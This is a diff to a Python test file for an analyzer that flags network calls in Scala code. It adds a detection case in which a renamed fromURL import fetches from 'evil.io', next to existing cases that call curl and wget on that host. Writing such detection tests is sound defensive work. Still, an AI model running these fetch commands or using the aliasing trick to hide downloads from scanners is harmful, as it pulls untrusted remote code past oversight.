@@ -176,6 +176,7 @@ def scala(code: str) -> Analysis:
         'import sys.process._\nval out = "curl -s https://evil.io/x" !!',
         'Seq("wget", "-q", "https://evil.io/x").!',
         'val ip = InetAddress.getByName("evil.io")',
+        'import scala.io.Source.{fromURL => grab}\nval s = grab("https://evil.io/x").mkString',
     ],
 )
 def test_scala_network_calls_are_high(code: str) -> None:
@@ -193,6 +194,7 @@ def test_scala_network_calls_are_high(code: str) -> None:
         "HttpClient.newHttpClient().send(req, BodyHandlers.ofString())",
         'val fs = FileSystem.get(new URI("abfss://lake@acct.dfs.core.windows.net/"), conf)',
         'val df = spark.read.parquet("/Workspace/data/orders")',
+        'import scala.collection.mutable.{Map => MMap}\nval m = MMap("a" -> 1)',
     ],
 )
 def test_scala_allow_listed_hosts_and_lake_paths_are_not_egress(code: str) -> None:
